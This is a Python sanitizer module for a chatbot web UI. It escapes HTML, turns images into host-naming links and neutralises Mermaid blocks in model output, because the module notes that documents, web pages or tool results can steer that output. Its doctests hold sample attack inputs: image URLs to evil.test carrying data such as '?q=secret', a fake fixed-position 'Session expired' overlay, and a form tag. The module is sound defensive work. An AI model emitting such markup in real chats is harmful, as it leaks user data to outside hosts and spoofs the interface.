"""Chat text the page can show without reaching anything or pretending anything.

The Chatbot renders a message as Markdown in the browser and inserts the HTML after
DOMPurify, which drops scripts and event handlers but keeps forms, inputs, media, inline
styles and images from any host. A message is written by the model, which a document, web
page or tool result can steer; so every message is passed through `safe_markdown` first:

- raw HTML is escaped (shown as text), outside code, except bare formatting tags such as
  `<b>`, `<sub>` or `<br>` (no attributes: no styles, no handlers);
- every image, Markdown or `<img>`, becomes a plain link naming its host;
- a Mermaid block is shown as code (its labels could hold HTML).

Fenced code is kept as written, and so is inline code, unless it holds markup: then it
becomes `<code>` with its text escaped, which looks the same and cannot be misread. For the
page's Markdown (marked, with Gradio's LaTeX and Mermaid steps) reads some text unlike
CommonMark: a `$$` ends a paragraph, `~` or a bare URL takes the backtick or backslash after
it (tests/test_render_safety.py lists each such case found). Last, the result is parsed as
the page would (Gradio's dedent and LaTeX steps, then CommonMark with GFM tables); text that
would still give other HTML or an image is shown as a plain code block instead.
"""

from __future__ import annotations

import functools
import html
import re
from urllib.parse import quote, urlsplit

from ollamastack.web.ui.page_markdown import (
    KEPT_TAG,
    KEPT_TAGS,
    LATEX,
    LATEX_DELIMITERS,
    MERMAID,
    RISKY,
    dedent,
    renders_safely,
)

__all__ = ["KEPT_TAGS", "LATEX_DELIMITERS", "fenced", "plain_code", "safe_markdown"]

_WS = r"[ \t\n]"
_AUTOLINK = re.compile(r"<(?:https?|mailto):[^<>\x00-\x20]*>", re.IGNORECASE)
_ATTRIBUTE = rf"""{_WS}+[A-Za-z_:][\w.:-]*(?:{_WS}*={_WS}*(?:[^ \t\n"'=<>`]+|'[^']*'|"[^"]*"))?"""
_IMG_TAG = re.compile(rf"<img((?:{_ATTRIBUTE})*){_WS}*/?>", re.IGNORECASE)
_SRC = re.compile(rf"""{_WS}src{_WS}*={_WS}*(?:"([^"]*)"|'([^']*)'|([^ \t\n"'=<>`]+))""", re.I)
_DESTINATION = re.compile(
    r"""\([ \t]*\n?[ \t]*(?:<([^<>\n]*)>|((?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.)*\))*))"""
    r"""(?:[ \t]*\n?[ \t]*(?:"(?:[^"\\]|\\.)*"|'(?:[^'\\]|\\.)*'|\((?:[^()\\]|\\.)*\)))?"""
    r"""[ \t]*\n?[ \t]*\)""",
    re.DOTALL,
)
_TAG_START = re.compile(r"<[A-Za-z/!?]")  # what may open HTML (or an autolink) in CommonMark
_CONTAINER_ONLY = re.compile(r"[ \t>]*(?:(?:[-+*]|\d{1,9}[.)])[ \t]+[ \t>]*)*")
_BLANK_LINE = re.compile(r"\n[ \t]*\n")
_BACKTICKS = re.compile(r"`+")
_CODE_CHARS = {"&": "&amp;", "<": "&lt;", ">": "&gt;", "\n": " "}
_CODE_MARKUP = frozenset("\\`*_[]!~$|:")  # what Markdown (GFM, Gradio's LaTeX) reads inline
_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
# A fenced code block's first and last lines, inside a quote or list item too (the page's
# parser decides in the end: `renders_safely` checks that it agrees).
_CONTAINERS = r"(?:[ \t]*>)*[ \t]*(?:(?:[-+*]|\d{1,9}[.)])[ \t]+)*"
_FENCE_OPEN = re.compile(rf"{_CONTAINERS}(`{{3,}}(?=[^`]*$)|~{{3,}})")
_FENCE_CLOSE = re.compile(r"(?:[ \t]*>)*[ \t]*([`~]{3,})[ \t]*$")  # "```~" too, for the page
_URL_SAFE = "!#$%&'*+,-./:;=?@[]_~"  # kept in a link's URL; the rest is %-encoded
_PLACEHOLDER = re.compile("\ue000(\\d+)\ue001")

@functools.lru_cache(maxsize=256)  # a streamed turn shows its earlier parts again each update
def safe_markdown(text: str) -> str:
    """Markdown that shows `text` with only formatting HTML, no images and no Mermaid.

    >>> print(safe_markdown('**Hi** <b>there</b> <img src="http://evil.test/p?d=1"> <form>'))
    **Hi** <b>there</b> [\\[image: evil.test\\]](http://evil.test/p?d=1) &lt;form>
    >>> print(safe_markdown("![chart](https://evil.test/c.png?q=secret 'title') or ![ref][1]"))
    [\\[image: evil.test\\]](https://evil.test/c.png?q=secret) or !\\[ref][1]
    >>> print(safe_markdown("Use `<div style=x>` or:\\n```html\\n<video src=v>\\n```"))
    Use <code>&lt;div style=x&gt;</code> or:
    ```html
    <video src=v>
    ```
    >>> print(safe_markdown('<div style="position:fixed">Session expired</div> x < y'))
    &lt;div style="position:fixed">Session expired&lt;/div> x < y
    >>> print(safe_markdown("<br>"))  # alone on its line it would open an HTML block
    &lt;br>
    """
    text = dedent(text.replace("\ue000", "").replace("\ue001", ""))
    if not RISKY.search(text):
        return text  # no way to HTML, an image or a diagram: most text
    latex: list[str] = []

    def hold(match: re.Match[str]) -> str:
        latex.append(match.group(0))
        return f"\ue000{len(latex) - 1}\ue001"

    held = LATEX.sub(hold, text)
    shown = _PLACEHOLDER.sub(lambda m: latex[int(m.group(1))], _escape(held))
    shown = dedent(shown)
    if not RISKY.search(shown) or renders_safely(shown):  # all escaped, or only in code
        return shown
    return plain_code(text)


def fenced(text: str, language: str = "") -> str:
    """A Markdown code block that `text` cannot close early.

    >>> print(fenced("a ``` b", "text"))
    ````text
    a ``` b
    ````
    """
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{language}\n{text}\n{fence}"


def plain_code(text: str) -> str:
    """`text` as a code block: shown exactly as written, whatever it holds."""
    return fenced(text, "text")


def _escape(text: str) -> str:
    """`text` with HTML escaped and images made links, outside fenced code."""
    out: list[str] = []
    segment: list[str] = []  # lines of text (not code) since the last fence
    fence = None  # the opening fence of the code block we are in
    for line in text.split("\n"):
        if fence is not None:
            out.append(line)
            closing = _FENCE_CLOSE.match(line)
            if closing and closing.group(1).startswith(fence):
                fence = None
        elif opening := _FENCE_OPEN.match(line):
            if segment:
                out.append(_escape_inline("\n".join(segment)))
                segment = []
            # `$\$` is `$$` to the fence's language, but no `$$` that would make the page
            # end a paragraph there and read this line as part of it (a fence no more)
            out.append(_escape_inline(line.replace("$$", "$\\$")))
            fence = opening.group(1)
        else:
            segment.append(line)
    if segment:
        out.append(_escape_inline("\n".join(segment)))
    return "\n".join(out)


def _escape_inline(text: str) -> str:
    """Escape one run of non-code lines, reading code spans as CommonMark does."""
    text = MERMAID.sub("``` mermaid", text)  # wherever a block may start, even mid-line
    out: list[str] = []
    i = 0
    while i < len(text):
        char = text[i]
        if char == "\\" and text[i + 1:i + 2] in _PUNCTUATION:
            # `\<` and `\![` as entities: shown the same, and the same even where the page
            # reads the backslash as part of a bare URL (`www.x.org\<img>`)
            escaped = text[i:i + 2]
            if escaped == "\\<":
                escaped = "&lt;"
            elif escaped == "\\!" and text.startswith("[", i + 2):
                escaped = "&#33;"
            out.append(escaped)
            i += 2
        elif char == "`":
            run = _BACKTICKS.match(text, i).end() - i  # type: ignore[union-attr]
            end = _code_span_end(text, i, run)
            code = text[i + run:end - run] if end > i + run else ""
            out.append(_inline_code(code) if RISKY.search(code) else text[i:end])
            i = end
        elif char == "<":
            i = _escape_tag(text, i, out)
        elif text.startswith("![", i):
            image = _markdown_image(text, i)
            if image is None:
                out.append("!\\[")
                i += 2
            else:
                out.append(_image_link(image[1]))
                i = image[0]
        else:
            out.append(char)
            i += 1
    return "".join(out)


def _code_span_end(text: str, start: int, run: int) -> int:
    """Where the code span opened by `run` backticks at `start` ends; just after the
    backticks when nothing closes it (then they are text)."""
    stop = _BLANK_LINE.search(text, start)
    limit = stop.start() if stop else len(text)
    for match in _BACKTICKS.finditer(text, start + run, limit):
        if len(match.group(0)) == run:
            return match.end()
    return start + run


def _inline_code(code: str) -> str:
    """A code span's text as `<code>` with the text escaped: shown the same, and the same
    to any Markdown parser (the page's reads some backticks differently from CommonMark:
    after `~`, or in a bare URL), so no `<` in it can ever open a tag.

    >>> print(_inline_code(" <img src=x> *$$* "))
    <code>&lt;img src=x&gt; \\*\\$\\$\\*</code>
    """
    if code.startswith((" ", "\n")) and code.endswith((" ", "\n")) and code.strip():
        code = code[1:-1]
    shown = "".join(_CODE_CHARS.get(c, "\\" + c if c in _CODE_MARKUP else c) for c in code)
    return f"<code>{shown}</code>"


def _escape_tag(text: str, i: int, out: list[str]) -> int:
    """Handle the `<` at `i`: keep a formatting tag or autolink, link an `<img>`, escape
    anything else that could open HTML. Returns where to go on."""
    if tag := KEPT_TAG.match(text, i):
        line_start, line_end = text.rfind("\n", 0, i) + 1, text.find("\n", i)
        rest = text[tag.end():] if line_end < 0 else text[tag.end():line_end]
        # alone on its line (list and quote markers aside) it would open an HTML block
        if not _CONTAINER_ONLY.fullmatch(text, line_start, i) or rest.strip():
            out.append(tag.group(0))
            return tag.end()
    elif link := _AUTOLINK.match(text, i):
        out.append(link.group(0))
        return link.end()
    elif image := _IMG_TAG.match(text, i):
        if src := _SRC.search(image.group(1)):
            out.append(_image_link(html.unescape(next(g for g in src.groups() if g is not None))))
            return image.end()
    out.append("&lt;" if _TAG_START.match(text, i) else "<")
    return i + 1


def _markdown_image(text: str, start: int) -> tuple[int, str] | None:
    """`![alt](destination "title")` at `start`: where it ends and its URL."""
    depth, i = 0, start + 1
    while i < len(text):
        if text[i] == "\\":
            i += 1
        elif text[i] == "[":
            depth += 1
        elif text[i] == "]":
            depth -= 1
            if depth == 0:
                break
        elif _BLANK_LINE.match(text, i):
            return None
        i += 1
    destination = _DESTINATION.match(text, i + 1) if i < len(text) else None
    if destination is None:
        return None
    url = destination.group(1) if destination.group(1) is not None else destination.group(2)
    return destination.end(), re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", url)


def _image_link(url: str) -> str:
    """An image as a link that names where it would have come from (as text only when
    the URL is neither http(s) nor relative).

    >>> print(_image_link("https://Other-Host:8080/a b(c).png"))
    [\\[image: other-host\\]](https://Other-Host:8080/a%20b%28c%29.png)
    >>> print(_image_link("data:image/png;base64,AA"), _image_link("/x.png"))
    \\[image: data URL\\] [\\[image: this site\\]](/x.png)
    """
    try:
        parts = urlsplit(url)
        where = parts.hostname or (f"{parts.scheme} URL" if parts.scheme else "this site")
    except ValueError:
        return "\\[image: unreadable URL\\]"
    label = "\\[image: " + re.sub(r"[^\w .:-]", "", where) + "\\]"
    if parts.scheme.lower() not in ("http", "https", "") or not url:
        return label
    return f"[{label}]({quote(url, safe=_URL_SAFE)})"
